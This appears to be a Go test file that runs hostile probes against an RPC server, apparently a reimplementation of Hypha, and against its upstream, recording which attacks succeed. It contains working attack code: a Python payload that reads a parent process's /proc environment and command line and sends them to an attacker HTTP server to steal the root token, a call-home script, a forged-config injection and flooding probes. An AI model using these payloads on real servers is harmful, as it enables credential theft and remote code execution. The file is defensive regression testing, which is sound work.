package interop

// The attacks of the security work (docs/security.md), run as probes against
// a live server: the real upstream server (opt-in, HYPHA_PEERS=1) and our
// embedded server, in the same test, so that docs/security.md can say which
// attacks upstream is open to while ours stays closed.
//
//	HYPHA_PEERS=1 go test ./interop/ -run TestHostileProbes -v
//
// Each probe reports "closed" (refused, with the error seen) or "OPEN" (with
// the evidence: a callback that reached the attacker's HTTP server, a victim
// function that was invoked, a token that was accepted). Our server must be
// closed on every probe; upstream's results are only logged. Our server is
// probed in CI as well (TestHostileProbesOurs), without the peers.

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/hypha-go/hypha/internal/embedded"
	"github.com/hypha-go/hypha/internal/testserver"
	"github.com/hypha-go/hypha/rpc"
	"github.com/hypha-go/hypha/server"
)

// probeTarget is a server under attack.
type probeTarget struct {
	name      string
	url       string // http base URL
	rootToken string
	// logLines counts the server's log lines so far that contain substr.
	logLines func(substr string) int
}

// attacker is the attacker's HTTP server: it serves an app script for any
// path and records the paths it was asked for.
type attacker struct {
	srv    *httptest.Server
	mu     sync.Mutex
	hits   []string
	bodies []string
}

func newAttacker(t *testing.T) *attacker {
	a := &attacker{}
	a.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		a.mu.Lock()
		a.hits = append(a.hits, r.URL.Path)
		if len(body) > 0 {
			a.bodies = append(a.bodies, string(body))
		}
		a.mu.Unlock()
		// Whatever the worker asks for, it gets a script that calls home.
		fmt.Fprintf(w, "import urllib.request\nurllib.request.urlopen(%q).read()\n", a.srv.URL+"/pwned")
	}))
	t.Cleanup(a.srv.Close)
	return a
}

func (a *attacker) saw(path string) bool {
	a.mu.Lock()
	defer a.mu.Unlock()
	for _, h := range a.hits {
		if h == path {
			return true
		}
	}
	return false
}

func (a *attacker) waitFor(path string, d time.Duration) bool {
	deadline := time.Now().Add(d)
	for time.Now().Before(deadline) {
		if a.saw(path) {
			return true
		}
		time.Sleep(50 * time.Millisecond)
	}
	return a.saw(path)
}

// probeResult is one row of the report.
type probeResult struct {
	name   string
	open   bool
	detail string
}

func closed(format string, args ...any) probeResult {
	return probeResult{detail: fmt.Sprintf(format, args...)}
}

func open(format string, args ...any) probeResult {
	return probeResult{open: true, detail: fmt.Sprintf(format, args...)}
}

func short(err error) string {
	s := err.Error()
	if len(s) > 160 {
		s = s[:160] + "…"
	}
	return s
}

// runProbes runs every probe against tg and returns the results.
func runProbes(t *testing.T, tg probeTarget) []probeResult {
	ctx := ctxTimeout(t, 4*time.Minute)
	root := goConnect(t, tg.url, rpc.Config{Token: tg.rootToken, ClientID: "probe-root-" + tg.name})
	anon := goConnect(t, tg.url, rpc.Config{ClientID: "probe-anon-" + tg.name})
	var out []probeResult
	add := func(name string, r probeResult) {
		r.name = name
		out = append(out, r)
		t.Logf("%s: %-28s %-6s %s", tg.name, name, map[bool]string{true: "OPEN", false: "closed"}[r.open], r.detail)
	}

	// The public python-eval worker (ours: built-in; upstream: the
	// python_eval startup function), found by root.
	workerID := ""
	if list, err := root.ListServices(ctx, map[string]any{"workspace": "public", "type": "server-app-worker"}); err == nil {
		for _, s := range list {
			svc, err := root.GetService(ctx, s.ID)
			if err != nil {
				continue
			}
			if st, ok := svc.Get("supported_types").([]any); ok {
				for _, x := range st {
					if x == "python-eval" {
						workerID = s.ID
					}
				}
			}
		}
	}

	add("anon-ws-start", probeAnonStart(ctx, t, anon, workerID))
	add("anon-http-start", probeAnonHTTPStart(ctx, t, tg, workerID))
	add("manager-deputy", probeManagerDeputy(ctx, t, tg, root))
	add("http-foreign-workspace", probeHTTPWorkspace(ctx, t, tg, root))
	add("token-lifetime", probeTokenLifetime(ctx, anon))
	add("revoked-token-connect", probeRevoked(ctx, t, tg, root))
	add("cross-ws-direct-message", probeDirectMessage(ctx, t, tg))
	add("message-cache-exhaustion", probeMessageCache(ctx, t, tg, root))
	add("app-reads-server-secrets", probeAppSecrets(ctx, t, tg, root))
	add("garbage-frames", probeGarbage(ctx, t, tg))
	ctl := probeController(ctx, t, tg, root)
	for _, name := range []string{"ctl-select-shutdown", "ctl-kwargs-identity", "ctl-readonly-stop"} {
		add(name, ctl[name])
	}
	return out
}

func startConfig(ws, cid, filesURL string) map[string]any {
	return map[string]any{
		"id": ws + "/" + cid, "app_id": "pwn", "workspace": ws, "client_id": cid,
		"server_url": "http://127.0.0.1:1", "token": "", "app_files_base_url": filesURL,
		"entry_point": "main.py", "timeout": 10.0,
		"manifest": map[string]any{"type": "python-eval", "entry_point": "main.py", "name": "pwn"},
	}
}

// probeAnonStart: an anonymous websocket client starts a session on the
// public python-eval worker with its own script URL.
func probeAnonStart(ctx context.Context, t *testing.T, anon *rpc.Client, workerID string) probeResult {
	if workerID == "" {
		return closed("no python-eval worker in public")
	}
	a := newAttacker(t)
	svc, err := anon.GetService(ctx, workerID)
	if err != nil {
		return closed("get_service: %s", short(err))
	}
	ws := anon.Info().Workspace
	_, err = svc.Call(ctx, "start", startConfig(ws, "pwn-ws", a.srv.URL), rpc.Kwargs{})
	if a.waitFor("/pwned", 10*time.Second) {
		return open("attacker's script ran (start: %v)", err)
	}
	if err != nil {
		return closed("start: %s", short(err))
	}
	return closed("start returned but the script never ran")
}

// probeAnonHTTPStart: the same over HTTP without a token.
func probeAnonHTTPStart(ctx context.Context, t *testing.T, tg probeTarget, workerID string) probeResult {
	if workerID == "" {
		return closed("no python-eval worker in public")
	}
	a := newAttacker(t)
	ws, svc, _ := strings.Cut(workerID, "/")
	body, _ := json.Marshal(map[string]any{"config": startConfig("public", "pwn-http", a.srv.URL)})
	req, _ := http.NewRequestWithContext(ctx, http.MethodPost, tg.url+"/"+ws+"/services/"+svc+"/start", bytes.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return closed("POST: %s", short(err))
	}
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 400))
	resp.Body.Close()
	if a.waitFor("/pwned", 10*time.Second) {
		return open("attacker's script ran (HTTP %d)", resp.StatusCode)
	}
	return closed("HTTP %d %s", resp.StatusCode, strings.TrimSpace(string(b)))
}

// victim registers a protected service whose hit() counts its calls.
func victim(ctx context.Context, t *testing.T, c *rpc.Client, id string, hits *atomic.Int64) string {
	sid, err := c.RegisterService(ctx, rpc.Service{
		ID: id, Config: rpc.ServiceConfig{Visibility: "protected"},
		Functions: map[string]any{"hit": func(args ...any) string { hits.Add(1); return "hit" }},
	}, rpc.Overwrite())
	if err != nil {
		t.Fatalf("register victim: %v", err)
	}
	return sid
}

// probeManagerDeputy: an anonymous raw client calls the manager's echo with
// a promise whose resolve/reject point at another client's protected
// service; the manager must not call it.
func probeManagerDeputy(ctx context.Context, t *testing.T, tg probeTarget, root *rpc.Client) probeResult {
	var hits atomic.Int64
	sid := victim(ctx, t, root, "deputy-victim", &hits)
	target := root.Info().Workspace + "/" + root.Info().ClientID
	ref := map[string]any{"_rtype": "method", "_rtarget": target, "_rmethod": "services.deputy-victim.hit", "_rpromise": false}
	r := testserver.DialRawURL(t, mustWS(t, tg.url))
	if _, err := r.Hello(map[string]any{"client_id": "deputy-attacker"}); err != nil {
		return closed("handshake: %s", short(err))
	}
	err := r.Send(map[string]any{"type": "method", "from": r.ID, "to": r.ManagerID(), "method": "services.default.echo", "session": "dep1"},
		map[string]any{"args": []any{"x"}, "promise": map[string]any{"resolve": ref, "reject": ref, "heartbeat": ref, "interval": 1.0}})
	if err != nil {
		return closed("send: %s", short(err))
	}
	// Also as a plain argument of a call the manager answers by calling back.
	deadline := time.Now().Add(4 * time.Second)
	for time.Now().Before(deadline) && hits.Load() == 0 {
		time.Sleep(50 * time.Millisecond)
	}
	if n := hits.Load(); n > 0 {
		return open("the manager called %s.hit %d time(s) for an anonymous client", sid, n)
	}
	return closed("victim never called")
}

// probeHTTPWorkspace: an anonymous HTTP call to a public service of
// workspace W; the service reports the caller's workspace it was given.
func probeHTTPWorkspace(ctx context.Context, t *testing.T, tg probeTarget, root *rpc.Client) probeResult {
	_, err := root.RegisterService(ctx, rpc.Service{
		ID: "ws-probe", Config: rpc.ServiceConfig{Visibility: "public", RequireContext: true},
		Functions: map[string]any{"who": func(cc *rpc.CallContext) string { return cc.WS }},
	}, rpc.Overwrite())
	if err != nil {
		t.Fatalf("register ws-probe: %v", err)
	}
	ws := root.Info().Workspace
	resp, err := http.Get(tg.url + "/" + ws + "/services/ws-probe/who")
	if err != nil {
		return closed("GET: %s", short(err))
	}
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 400))
	resp.Body.Close()
	got := strings.Trim(strings.TrimSpace(string(b)), `"`)
	if resp.StatusCode == 200 && got == ws {
		return open("an anonymous HTTP caller was presented as a member of %s", ws)
	}
	return closed("HTTP %d, caller workspace %q", resp.StatusCode, got)
}

// probeTokenLifetime: generate_token with expires_in of ~285 years.
func probeTokenLifetime(ctx context.Context, anon *rpc.Client) probeResult {
	tok, err := anon.Manager().Call(ctx, "generate_token", map[string]any{"expires_in": 9e9})
	if err != nil {
		return closed("generate_token: %s", short(err))
	}
	u, err := anon.Manager().Call(ctx, "parse_token", tok)
	if err != nil {
		return open("a token was issued (parse_token: %s)", short(err))
	}
	if m, ok := u.(map[string]any); ok {
		return open("token issued, expires_at=%v", m["expires_at"])
	}
	return open("token issued")
}

// probeRevoked: a token revoked by its owner still connects.
func probeRevoked(ctx context.Context, t *testing.T, tg probeTarget, root *rpc.Client) probeResult {
	tok, err := root.GenerateToken(ctx, rpc.TokenConfig{Permission: "read_write"})
	if err != nil {
		t.Fatalf("generate_token: %v", err)
	}
	if _, err := root.Manager().Call(ctx, "revoke_token", tok); err != nil {
		return closed("revoke_token not available: %s", short(err))
	}
	cctx, cancel := context.WithTimeout(ctx, 15*time.Second)
	defer cancel()
	c, err := rpc.Connect(cctx, rpc.Config{ServerURL: tg.url, Token: tok, ClientID: "revoked-user"})
	if err != nil {
		return closed("connect: %s", short(err))
	}
	c.Close()
	return open("a revoked token connected")
}

// probeDirectMessage: a client of workspace B sends a non-RPC message
// straight to a client of workspace A.
func probeDirectMessage(ctx context.Context, t *testing.T, tg probeTarget) probeResult {
	wsURL := mustWS(t, tg.url)
	v := testserver.DialRawURL(t, wsURL)
	if _, err := v.Hello(map[string]any{"client_id": "dm-victim"}); err != nil {
		return closed("victim handshake: %s", short(err))
	}
	a := testserver.DialRawURL(t, wsURL)
	if _, err := a.Hello(map[string]any{"client_id": "dm-attacker"}); err != nil {
		return closed("attacker handshake: %s", short(err))
	}
	if err := a.Send(map[string]any{"type": "probe_event", "from": a.ID, "to": v.ID, "data": "hello from " + a.Workspace()}, nil); err != nil {
		return closed("send: %s", short(err))
	}
	rctx, cancel := context.WithTimeout(ctx, 3*time.Second)
	defer cancel()
	for {
		f, err := v.Read(rctx)
		if err != nil {
			return closed("nothing reached the victim in 3 s")
		}
		if f.Main["type"] == "probe_event" {
			return open("a message from %s reached %s", a.Workspace(), v.Workspace())
		}
	}
}

func mustWS(t *testing.T, u string) string {
	w, err := rpc.WebsocketURL(u)
	if err != nil {
		t.Fatal(err)
	}
	return w
}

// probeController registers a probe worker (root, the victim workspace W =
// root's workspace, visibility public) for "probe-type", installs an app of
// that type as root and then acts with a read-only token of W.
func probeController(ctx context.Context, t *testing.T, tg probeTarget, root *rpc.Client) map[string]probeResult {
	res := map[string]probeResult{}
	fail := func(format string, args ...any) map[string]probeResult {
		r := closed(format, args...)
		for _, n := range []string{"ctl-select-shutdown", "ctl-kwargs-identity", "ctl-readonly-stop"} {
			res[n] = r
		}
		return res
	}
	var mu sync.Mutex
	var starts []map[string]any
	var stops []string
	var shutdowns atomic.Int64
	// Two workers, so that the controller has to choose (upstream applies
	// worker_selection_mode only when several workers match).
	for i := range 2 {
		if r := registerProbeWorker(ctx, t, tg, i, &mu, &starts, &stops, &shutdowns); r != "" {
			return fail("register probe worker: %s", r)
		}
	}
	rootApps, err := root.GetService(ctx, "public/server-apps")
	if err != nil {
		return fail("server-apps: %s", short(err))
	}
	info, err := rootApps.Call(ctx, "install", rpc.Kwargs{
		"manifest": map[string]any{"name": "Probe App", "type": "probe-type", "version": "0.1.0", "entry_point": "main.txt",
			"env": map[string]any{"SECRET": "victim-secret"}},
		"files":            []any{map[string]any{"name": "main.txt", "content": "hello", "format": "text"}},
		"wait_for_service": false, "overwrite": true,
	})
	if err != nil {
		return fail("install: %s", short(err))
	}
	appID, _ := at(info, "id").(string)
	ws := root.Info().Workspace
	rotok, err := root.GenerateToken(ctx, rpc.TokenConfig{Workspace: ws, Permission: "read"})
	if err != nil {
		return fail("read token: %s", short(err))
	}
	ro := goConnect(t, tg.url, rpc.Config{Token: rotok, Workspace: ws, ClientID: "probe-ro-" + tg.name})
	roApps, err := ro.GetService(ctx, "public/server-apps")
	if err != nil {
		return fail("server-apps as read-only: %s", short(err))
	}
	// The two attacks on the worker config are made by a read_write member
	// (who may start apps), the stop by a read-only one.
	rwtok, err := root.GenerateToken(ctx, rpc.TokenConfig{Workspace: ws, Permission: "read_write"})
	if err != nil {
		return fail("read_write token: %s", short(err))
	}
	rw := goConnect(t, tg.url, rpc.Config{Token: rwtok, Workspace: ws, ClientID: "probe-rw-" + tg.name})
	rwApps, err := rw.GetService(ctx, "public/server-apps")
	if err != nil {
		return fail("server-apps as read_write: %s", short(err))
	}
	nstarts := func() int { mu.Lock(); defer mu.Unlock(); return len(starts) }

	// 1. select:first_success:shutdown from a member.
	_, err = rwApps.Call(ctx, "start", appID, rpc.Kwargs{"wait_for_service": false, "timeout": 10, "worker_selection_mode": "select:first_success:shutdown"})
	time.Sleep(500 * time.Millisecond)
	if n := shutdowns.Load(); n > 0 {
		res["ctl-select-shutdown"] = open("the controller called the worker's shutdown %d time(s) for a read_write member (start: %v)", n, err)
	} else if err != nil {
		res["ctl-select-shutdown"] = closed("start: %s", short(err))
	} else {
		res["ctl-select-shutdown"] = closed("shutdown never called")
	}
	stopAll := func() {
		mu.Lock()
		ids := []string{}
		for _, s := range starts {
			if id, ok := s["id"].(string); ok {
				ids = append(ids, id)
			}
		}
		mu.Unlock()
		for _, id := range ids {
			_, _ = rootApps.Call(ctx, "stop", id)
		}
	}
	stopAll()

	// 2. additional_kwargs rewriting the trusted fields of the worker config.
	before := nstarts()
	evil := map[string]any{"workspace": "victim-ws", "app_files_base_url": "http://attacker.invalid/files", "id": "victim-ws/evil", "token": "forged"}
	_, err = rwApps.Call(ctx, "start", appID, rpc.Kwargs{"wait_for_service": false, "timeout": 10, "additional_kwargs": evil})
	mu.Lock()
	var rewritten []string
	for _, s := range starts[before:] {
		for k, v := range evil {
			if s[k] == v {
				rewritten = append(rewritten, k)
			}
		}
	}
	mu.Unlock()
	switch {
	case len(rewritten) > 0:
		res["ctl-kwargs-identity"] = open("a member's additional_kwargs set %v in the worker config", rewritten)
	case err != nil:
		res["ctl-kwargs-identity"] = closed("start: %s", short(err))
	case nstarts() > before:
		res["ctl-kwargs-identity"] = closed("started, trusted fields kept")
	default:
		res["ctl-kwargs-identity"] = closed("no start")
	}
	stopAll()

	// 3. A read-only user stops root's session.
	sess, err := rootApps.Call(ctx, "start", appID, rpc.Kwargs{"wait_for_service": false, "timeout": 10})
	if err != nil {
		res["ctl-readonly-stop"] = closed("root could not start (%s)", short(err))
		return res
	}
	sid, _ := at(sess, "id").(string)
	mu.Lock()
	nstops := len(stops)
	mu.Unlock()
	_, err = roApps.Call(ctx, "stop", sid)
	mu.Lock()
	stopped := len(stops) > nstops
	mu.Unlock()
	if stopped {
		res["ctl-readonly-stop"] = open("a read-only user stopped %s (stop: %v)", sid, err)
	} else if err != nil {
		res["ctl-readonly-stop"] = closed("stop: %s", short(err))
	} else {
		res["ctl-readonly-stop"] = closed("stop returned, worker not called")
	}
	_, _ = rootApps.Call(ctx, "stop", sid)
	_, _ = rootApps.Call(ctx, "uninstall", appID)
	return res
}

// ourTarget starts the embedded system (server, controller, built-in
// process worker) with a data dir in the test's temp dir.
func ourTarget(t *testing.T) probeTarget {
	t.Helper()
	ctx := ctxTimeout(t, time.Minute)
	logs := &testserver.Buffer{}
	sys, err := embedded.Start(ctx, embedded.Options{
		Server: server.Config{JWTSecret: "probe-secret", RootToken: testserver.RootToken, DataDir: t.TempDir(),
			Logger: slog.New(slog.NewTextHandler(logs, nil))},
		Addr: "127.0.0.1:0",
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { sys.Close() })
	return probeTarget{name: "ours", url: sys.Server.URL(), rootToken: testserver.RootToken,
		logLines: func(substr string) int { return strings.Count(logs.String(), substr) }}
}

func report(t *testing.T, rows ...[]probeResult) {
	var b strings.Builder
	b.WriteString("\n| probe |")
	for range rows {
		b.WriteString(" result | detail |")
	}
	b.WriteString("\n")
	for i := range rows[0] {
		fmt.Fprintf(&b, "| %s |", rows[0][i].name)
		for _, r := range rows {
			fmt.Fprintf(&b, " %s | %s |", map[bool]string{true: "OPEN", false: "closed"}[r[i].open], r[i].detail)
		}
		b.WriteString("\n")
	}
	t.Log(b.String())
}

// TestHostileProbesOurs runs every probe against our embedded server (in CI).
func TestHostileProbesOurs(t *testing.T) {
	ours := runProbes(t, ourTarget(t))
	report(t, ours)
	for _, r := range ours {
		if r.open {
			t.Errorf("our server is open to %s: %s", r.name, r.detail)
		}
	}
}

// TestHostileProbesUpstream runs the same probes against the real upstream
// server (S3 and server apps enabled, the python-eval worker started) and
// logs which ones it is open to, next to ours.
func TestHostileProbesUpstream(t *testing.T) {
	dir := needPeers(t)
	up := &upstream{dir: dir, port: freePort(t), env: []string{"PEERS_S3=1"},
		args: []string{"--startup-functions", "hypha.workers.python_eval:hypha_startup"}}
	up.url = "http://127.0.0.1:" + strconv.Itoa(up.port)
	upLog := peersLog(up.port)
	t.Cleanup(func() { up.stop(t) })
	up.start(t)
	upRows := runProbes(t, probeTarget{name: "upstream", url: up.url, rootToken: peersRootToken(),
		logLines: func(substr string) int {
			b, _ := os.ReadFile(upLog)
			return strings.Count(string(b), substr)
		}})
	oursRows := runProbes(t, ourTarget(t))
	report(t, upRows, oursRows)
	for _, r := range oursRows {
		if r.open {
			t.Errorf("our server is open to %s: %s", r.name, r.detail)
		}
	}
}

// probeMessageCache: one anonymous client opens 300 chunked-message slots
// on the manager; another client's 1 MB call (sent in chunks) must still
// work.
func probeMessageCache(ctx context.Context, t *testing.T, tg probeTarget, root *rpc.Client) probeResult {
	r := testserver.DialRawURL(t, mustWS(t, tg.url))
	if _, err := r.Hello(map[string]any{"client_id": "cache-hog"}); err != nil {
		return closed("handshake: %s", short(err))
	}
	created, refused := 0, ""
	for i := 0; i < 300; i++ {
		cctx, cancel := context.WithTimeout(ctx, 10*time.Second)
		_, err := r.Call(cctx, r.ManagerID(), "services.built-in.message_cache.create", []any{fmt.Sprintf("hog-%d", i), false}, nil, nil)
		cancel()
		if err != nil {
			refused = short(err)
			break
		}
		created++
	}
	big := bytes.Repeat([]byte{7}, 1<<20)
	cctx, cancel := context.WithTimeout(ctx, 30*time.Second)
	defer cancel()
	v, err := root.Echo(cctx, big)
	if err != nil {
		return open("after %d slots taken by one client, another client's 1 MB call failed: %s", created, short(err))
	}
	if b, ok := v.([]byte); !ok || !bytes.Equal(b, big) {
		return open("1 MB echo came back wrong (%T)", v)
	}
	if refused != "" {
		return closed("the hog was refused after %d slots (%s); others unaffected", created, refused)
	}
	return closed("the hog holds %d slots; others unaffected", created)
}

// probeAppSecrets: an app installed by root reads its parent's command line
// and environment and sends them to the attacker; are the root token or the
// JWT secret in it?
func probeAppSecrets(ctx context.Context, t *testing.T, tg probeTarget, root *rpc.Client) probeResult {
	a := newAttacker(t)
	script := fmt.Sprintf(`import os, urllib.request
def rd(p):
    try:
        return open(p, "rb").read().replace(b"\0", b" ").decode(errors="replace")
    except Exception as e:
        return "ERR %%s" %% e
pp = os.getppid()
data = "uid=%%d\n" %% os.getuid() + rd("/proc/%%d/cmdline" %% pp) + "\n" + rd("/proc/%%d/environ" %% pp)
urllib.request.urlopen(%q, data=data.encode()).read()
`, a.srv.URL+"/secret")
	apps, err := root.GetService(ctx, "public/server-apps")
	if err != nil {
		return closed("server-apps: %s", short(err))
	}
	info, err := apps.Call(ctx, "install", rpc.Kwargs{
		"manifest":         map[string]any{"name": "Secrets", "type": "python-eval", "version": "0.1.0", "entry_point": "main.py"},
		"files":            []any{map[string]any{"name": "main.py", "content": script, "format": "text"}},
		"wait_for_service": false, "overwrite": true,
	})
	if err != nil {
		return closed("install: %s", short(err))
	}
	id, _ := at(info, "id").(string)
	defer apps.Call(context.WithoutCancel(ctx), "uninstall", id)
	if !a.waitFor("/secret", 2*time.Second) {
		// install's trial run may have stopped it before it ran: start it.
		if _, err := apps.Call(ctx, "start", id, rpc.Kwargs{"wait_for_service": false, "timeout": 10}); err != nil {
			return closed("start: %s", short(err))
		}
	}
	if !a.waitFor("/secret", 20*time.Second) {
		return closed("the app never reported")
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	for _, b := range a.bodies {
		if strings.Contains(b, tg.rootToken) {
			uid, _, _ := strings.Cut(b, "\n")
			return open("the app (%s) read the root token from its parent's /proc entries", uid)
		}
	}
	t.Logf("%s: the app read: %q", tg.name, a.bodies)
	return closed("no secret in what the app could read")
}

// registerProbeWorker registers a server-app-worker for "probe-type" (root,
// in root's workspace, visibility public) that records every call.
func registerProbeWorker(ctx context.Context, t *testing.T, tg probeTarget, i int, mu *sync.Mutex,
	starts *[]map[string]any, stops *[]string, shutdowns *atomic.Int64) string {
	wroot := goConnect(t, tg.url, rpc.Config{Token: tg.rootToken, ClientID: fmt.Sprintf("probe-worker-%s-%d", tg.name, i)})
	_, err := wroot.RegisterService(ctx, rpc.Service{
		ID: "probe-worker", Name: "Probe Worker", Type: "server-app-worker", Description: "records calls",
		Config: rpc.ServiceConfig{Visibility: "public", RequireContext: true},
		Functions: map[string]any{
			"supported_types": []any{"probe-type"},
			"start": rpc.HandlerFunc(func(_ context.Context, c *rpc.Call) (any, error) {
				cfg, _ := c.Arg(0, "config").(map[string]any)
				mu.Lock()
				*starts = append(*starts, cfg)
				mu.Unlock()
				return cfg["id"], nil
			}),
			"stop": rpc.HandlerFunc(func(_ context.Context, c *rpc.Call) (any, error) {
				id, _ := c.Arg(0, "session_id").(string)
				mu.Lock()
				*stops = append(*stops, id)
				mu.Unlock()
				return nil, nil
			}),
			"get_logs": rpc.HandlerFunc(func(context.Context, *rpc.Call) (any, error) {
				return map[string]any{"items": []any{}, "total": 0, "offset": 0, "limit": nil}, nil
			}),
			"shutdown": rpc.HandlerFunc(func(context.Context, *rpc.Call) (any, error) { shutdowns.Add(1); return nil, nil }),
		},
	}, rpc.Overwrite())
	if err != nil {
		return short(err)
	}
	return ""
}

// probeGarbage: one anonymous connection sends 2000 frames that are not
// msgpack. Does the server keep the connection, and how many log lines
// does the flood cost (warnings and errors, counted in the server's log)?
func probeGarbage(ctx context.Context, t *testing.T, tg probeTarget) probeResult {
	count := func() int {
		if tg.logLines == nil {
			return 0
		}
		return tg.logLines("WARN") + tg.logLines("WARNING") + tg.logLines("ERROR")
	}
	before := count()
	r := testserver.DialRawURL(t, mustWS(t, tg.url))
	if _, err := r.Hello(map[string]any{"client_id": "garbage"}); err != nil {
		return closed("handshake: %s", short(err))
	}
	sent := 0
	for ; sent < 2000; sent++ {
		if err := r.SendBinary([]byte{0xc1, 0x00, byte(sent)}); err != nil {
			break
		}
	}
	// The connection is still usable if a manager call answers.
	cctx, cancel := context.WithTimeout(ctx, 5*time.Second)
	_, err := r.CallManager(cctx, "echo", "still here?")
	cancel()
	time.Sleep(time.Second) // let the server's log catch up
	lines := count() - before
	if err == nil && lines >= 1000 {
		return open("the connection stays open after %d garbage frames, which cost %d log lines", sent, lines)
	}
	if err == nil {
		return closed("the connection stays open after %d garbage frames; %d log lines", sent, lines)
	}
	return closed("the connection was closed after at most %d frames; %d log lines", sent, lines)
}
